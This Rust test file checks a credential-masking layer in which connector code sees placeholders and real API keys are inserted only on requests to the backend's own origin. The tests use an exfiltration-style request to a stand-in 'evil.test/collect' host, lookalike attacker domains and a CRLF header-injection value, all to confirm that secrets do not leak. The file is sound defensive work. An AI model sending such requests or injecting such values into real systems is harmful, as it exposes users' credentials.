//! The credentials of a call whose code may not see them: placeholders in
//! what the code builds, filled in (encoded for where they stand) only on
//! requests to the backend's own origin.

use std::sync::Arc;

use bytes::Bytes;
use indexmap::IndexMap;
use sluice_package::credentials::{CredentialError, SendCredentials};
use sluice_package::*;

/// The API key, with characters each place encodes differently.
const KEY: &str = r#"k3y&"q"/+="#;
/// A second secret, not ASCII.
const SIGNING: &str = "sïgn ing";
/// A third, with a line break: it cannot stand in a header.
const BROKEN: &str = "line\r\nx-injected: 1";

/// A package whose backend is `https://api.example.com`, with an API key in
/// the `X-Api-Key` header, and a connection with both secrets.
fn package_and_connection() -> (Arc<Package>, Connection, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("keyed");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(
        folder.join("apiDefinition.swagger.json"),
        r#"{"swagger": "2.0", "host": "api.example.com", "schemes": ["https"], "basePath": "/v1",
            "securityDefinitions": {"api_key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"}},
            "paths": {"/a": {"get": {"operationId": "A"}}}}"#,
    )
    .unwrap();
    std::fs::write(
        folder.join("apiProperties.json"),
        r#"{"properties": {"connectionParameters": {
            "api_key": {"type": "securestring"}, "signing": {"type": "securestring"},
            "broken": {"type": "securestring"}}}}"#,
    )
    .unwrap();
    let package = load_package(&folder).unwrap_or_else(|e| panic!("{e}"));
    let values = IndexMap::from([
        ("api_key".to_string(), Secret::new(KEY)),
        ("signing".to_string(), Secret::new(SIGNING)),
        ("broken".to_string(), Secret::new(BROKEN)),
    ]);
    let connection = Connection::new("c1", "keyed", values, &package.properties.connection_parameters)
        .unwrap_or_else(|e| panic!("{e}"));
    (Arc::new(package), connection, dir)
}

fn credentials() -> (SendCredentials, IndexMap<String, String>, tempfile::TempDir) {
    let (package, connection, dir) = package_and_connection();
    let mut credentials = SendCredentials::new(package, Arc::new(connection), None);
    credentials.set_origin(&"https://api.example.com/v1/a".parse().unwrap());
    let masked = credentials.masked_values();
    (credentials, masked, dir)
}

fn get(url: &str) -> http::Request<Bytes> {
    http::Request::get(url).body(Bytes::new()).unwrap()
}

#[test]
fn the_code_sees_placeholders_not_secrets() {
    let (_, masked, _dir) = credentials();
    for (name, secret) in [("api_key", KEY), ("signing", SIGNING), ("broken", BROKEN)] {
        let shown = masked[name].as_str();
        assert!(shown.starts_with("sluice-secret-"), "{shown}");
        assert!(!shown.contains(secret));
    }
}

#[test]
fn only_the_backend_origin_gets_the_credentials() {
    let (credentials, _, _dir) = credentials();
    for same in ["https://api.example.com/v1/a", "https://API.example.com./other", "https://api.example.com:443/"] {
        let mut request = get(same);
        credentials.apply(&mut request).unwrap();
        assert_eq!(request.headers()["x-api-key"], KEY, "{same}");
    }
    for other in [
        "http://api.example.com/v1/a",
        "https://api.example.com:8443/v1/a",
        "https://api.example.com.evil.test/v1/a",
        "https://evil.test/v1/a",
    ] {
        let mut request = get(other);
        credentials.apply(&mut request).unwrap();
        assert!(request.headers().get("x-api-key").is_none(), "{other} got the key");
    }
}

/// The comparison without copies answers as comparing the copies does.
#[test]
fn an_origin_is_compared_as_its_copy_would_be() {
    use sluice_package::credentials::Origin;
    let origin = Origin::of(&"https://api.example.com/v1/a".parse().unwrap()).unwrap();
    for uri in [
        "https://api.example.com/v1/a",
        "HTTPS://API.Example.COM./x",
        "https://api.example.com:443/",
        "https://api.example.com:444/",
        "http://api.example.com/",
        "http://api.example.com:443/",
        "https://api.example.co/",
        "ftp://api.example.com/",
        "/relative",
    ] {
        let uri: http::Uri = uri.parse().unwrap();
        assert_eq!(origin.is_origin_of(&uri), Origin::of(&uri).as_ref() == Some(&origin), "{uri}");
    }
}

/// The view the code's request policies read gives what the copy holds.
#[test]
fn the_masked_view_reads_as_the_masked_copy() {
    use sluice_package::policy::ConnectionValues as _;
    let (credentials, masked, _dir) = credentials();
    let view = credentials.masked();
    for (name, value) in &masked {
        assert_eq!(view.value(name), Some(value.as_str()), "{name}");
    }
    assert_eq!(view.value("absent"), None);
}

#[test]
fn a_header_the_code_set_is_kept() {
    let (credentials, _, _dir) = credentials();
    let mut request = get("https://api.example.com/v1/a");
    request.headers_mut().insert("x-api-key", "the-codes-own".parse().unwrap());
    credentials.apply(&mut request).unwrap();
    assert_eq!(request.headers()["x-api-key"], "the-codes-own");
}

#[test]
fn placeholders_are_filled_encoded_for_where_they_stand() {
    let (credentials, masked, _dir) = credentials();
    let (key, signing) = (masked["api_key"].as_str(), masked["signing"].as_str());

    let mut request = get(&format!("https://api.example.com/v1/a?key={key}&sig={signing}"));
    request.headers_mut().insert("x-signature", format!("Key {key}").parse().unwrap());
    credentials.apply(&mut request).unwrap();
    assert_eq!(request.uri().query(), Some("key=k3y%26%22q%22%2F%2B%3D&sig=s%C3%AFgn%20ing"));
    assert_eq!(request.headers()["x-signature"], format!("Key {KEY}").as_str());
    assert!(request.headers()["x-signature"].is_sensitive());

    let json = format!(r#"{{"key": "{key}", "sig": "{signing}"}}"#);
    let mut request = http::Request::post("https://api.example.com/v1/a")
        .header("content-type", "application/json")
        .header("content-length", json.len())
        .body(Bytes::from(json))
        .unwrap();
    credentials.apply(&mut request).unwrap();
    let body: serde_json::Value = serde_json::from_slice(request.body()).unwrap();
    assert_eq!((body["key"].as_str(), body["sig"].as_str()), (Some(KEY), Some(SIGNING)));
    assert_eq!(request.headers()["content-length"], request.body().len().to_string().as_str());

    let mut request = http::Request::post("https://api.example.com/v1/a")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Bytes::from(format!("key={key}")))
        .unwrap();
    credentials.apply(&mut request).unwrap();
    let fields: Vec<(String, String)> = url::form_urlencoded::parse(request.body()).into_owned().collect();
    assert_eq!(fields, [("key".to_string(), KEY.to_string())]);
}

#[test]
fn a_body_that_is_not_text_keeps_its_other_bytes() {
    let (credentials, masked, _dir) = credentials();
    let key = masked["api_key"].as_str();
    let mut body = vec![0xff, 0x00, 0xfe];
    body.extend_from_slice(key.as_bytes());
    body.push(0x80);
    let mut request = http::Request::post("https://api.example.com/v1/a")
        .header("content-type", "application/octet-stream")
        .body(Bytes::from(body))
        .unwrap();
    credentials.apply(&mut request).unwrap();
    let mut expected = vec![0xff, 0x00, 0xfe];
    expected.extend_from_slice(KEY.as_bytes());
    expected.push(0x80);
    assert_eq!(request.body().as_ref(), expected.as_slice());
}

#[test]
fn placeholders_stay_placeholders_on_the_way_to_another_origin() {
    let (credentials, masked, _dir) = credentials();
    let key = masked["api_key"].as_str();
    let url = format!("https://evil.test/collect?key={key}");
    let mut request = http::Request::post(url.as_str()).body(Bytes::from(key.to_string())).unwrap();
    request.headers_mut().insert("x-leak", key.parse().unwrap());
    credentials.apply(&mut request).unwrap();
    assert_eq!(request.uri().to_string(), url);
    assert_eq!(request.headers()["x-leak"], key);
    assert_eq!(request.body().as_ref(), key.as_bytes());
}

#[test]
fn a_secret_that_cannot_stand_in_a_header_is_a_clean_error() {
    let (credentials, masked, _dir) = credentials();
    let broken = masked["broken"].as_str();
    let mut request = get("https://api.example.com/v1/a");
    request.headers_mut().insert("x-signature", broken.parse().unwrap());
    let error = credentials.apply(&mut request).unwrap_err();
    assert!(matches!(&error, CredentialError::InvalidHeaderValue { header } if header == "x-signature"), "{error:?}");
    assert!(!error.to_string().contains("line"), "{error}");
}

/// A connector with an API-key set and an OAuth set: each connection gets
/// the credentials of the set it chose, and only the OAuth set signs in.
#[test]
fn a_connection_gets_the_credentials_of_its_parameter_set() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("multi");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(
        folder.join("apiDefinition.swagger.json"),
        r#"{"swagger": "2.0", "host": "api.example.com", "schemes": ["https"],
            "securityDefinitions": {
                "api_key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"},
                "oauth": {"type": "oauth2", "flow": "accessCode", "authorizationUrl": "https://a.example/authorize",
                    "tokenUrl": "https://a.example/token", "scopes": {}}},
            "paths": {"/a": {"get": {"operationId": "A"}}}}"#,
    )
    .unwrap();
    std::fs::write(
        folder.join("apiProperties.json"),
        r#"{"properties": {"connectionParameterSets": {"values": [
            {"name": "key", "parameters": {"api_key": {"type": "securestring"}}},
            {"name": "oauth", "parameters": {"token": {"type": "oauthSetting", "oAuthSettings": {"identityProvider": "oauth2"}},
                "token:customHost": {"type": "string"}}}]}}}"#,
    )
    .unwrap();
    let package = load_package(&folder).unwrap_or_else(|e| panic!("{e}"));
    let connect = |set: &str, values: &[(&str, &str)]| {
        let values = values.iter().map(|(k, v)| (k.to_string(), Secret::new(*v))).collect();
        Connection::with_set("c", "multi", &package.properties, Some(set), values).unwrap_or_else(|e| panic!("{e}"))
    };

    let key = connect("key", &[("api_key", "k-1")]);
    assert!(!credentials::needs_signed_in_token(&package, &key), "an API-key set never signs in");
    let mut request = get("https://api.example.com/a");
    credentials::apply(&package, &key, None, &mut request).unwrap();
    assert_eq!(request.headers()["x-api-key"], "k-1");
    assert!(!request.headers().contains_key("authorization"));

    let oauth = connect("oauth", &[("token:customHost", "h.example")]);
    assert!(credentials::needs_signed_in_token(&package, &oauth));
    assert_eq!(package.parameters_of(&oauth).keys().collect::<Vec<_>>(), ["token", "token:customHost"]);
    let mut request = get("https://api.example.com/a");
    credentials::apply(&package, &oauth, Some("tok"), &mut request).unwrap();
    assert_eq!(request.headers()["authorization"], "Bearer tok");
    assert!(!request.headers().contains_key("x-api-key"));
}
